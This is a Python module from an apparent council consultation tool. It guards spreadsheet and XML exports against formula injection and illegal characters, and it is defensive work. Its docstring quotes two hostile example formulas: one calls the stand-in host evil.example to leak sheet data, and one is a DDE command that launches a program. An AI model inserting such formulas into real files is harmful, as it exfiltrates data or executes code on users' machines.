"""Text leaving Consult in files: one rule for spreadsheet cells, one for XML documents.

Residents' words end up in files that officers open on council laptops. Two things can
go wrong there, and each has one rule here, applied by every export and every import
echo (never re-implemented beside them):

- **Spreadsheet cells** (XLSX and CSV): a cell whose text starts with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return (or their full-width forms) is read by Excel, LibreOffice
  and Google Sheets as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
  leaks the sheet, ``=cmd|' /C calc'!A0`` runs a program. Such text gets a leading
  apostrophe, the spreadsheet convention for "this is text" (OWASP's advice). Numbers
  stay numbers.
- **XML documents** (XLSX and DOCX are zipped XML): XML 1.0 cannot hold most C0 control
  characters or lone surrogates, and one such character in one answer made the whole
  export fail. A vertical tab or form feed (Word's line and page breaks, pasted) becomes a
  line break; the others are dropped.

A CSV file is written with `csv_text` (every cell through `spreadsheet_value`); a CSV text
made elsewhere (the pure `analysis` library writes its own) is passed through `safe_csv`.
`from_spreadsheet` undoes the apostrophe when a file Consult wrote is imported again.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

# Characters a spreadsheet takes as the start of a formula (OWASP's list, and the
# full-width forms some spreadsheet programs also accept).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Not allowed in XML 1.0 (tab, line feed and carriage return are), plus lone surrogates
# and the two non-characters U+FFFE and U+FFFF.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_BREAKS = {"\x0b": "\n", "\x0c": "\n"}


def xml_text(text: str) -> str:
    """`text` as XML can hold it: Word's pasted breaks become line breaks, other
    characters XML 1.0 forbids are removed."""
    return _XML_ILLEGAL.sub(lambda match: _BREAKS.get(match.group(0), ""), text)


def spreadsheet_value(value: Any) -> Any:
    """A value for a spreadsheet cell (XLSX or CSV): text that a spreadsheet would run as
    a formula gets a leading apostrophe; text is cleaned for XML; other values pass."""
    if not isinstance(value, str):
        return value
    text = xml_text(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def spreadsheet_row(values: list[Any]) -> list[Any]:
    """`spreadsheet_value` for every cell of a row."""
    return [spreadsheet_value(value) for value in values]


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """A CSV file's text with every cell made safe by `spreadsheet_value`. Lines end in
    CRLF (RFC 4180): with LF endings Python's writer leaves a cell holding a lone CR
    unquoted, and that CR splits the row in two when the file is read."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(spreadsheet_row(list(row)))
    return out.getvalue()


def safe_csv(text: str) -> str:
    """`text` (a CSV file written without the rule) with every cell made safe."""
    return csv_text(csv.reader(io.StringIO(text, newline="")))


def from_spreadsheet(text: str) -> str:
    """A cell read from an imported file, without the apostrophe `spreadsheet_value` put
    before a formula start (so a file Consult exported imports as what was typed)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
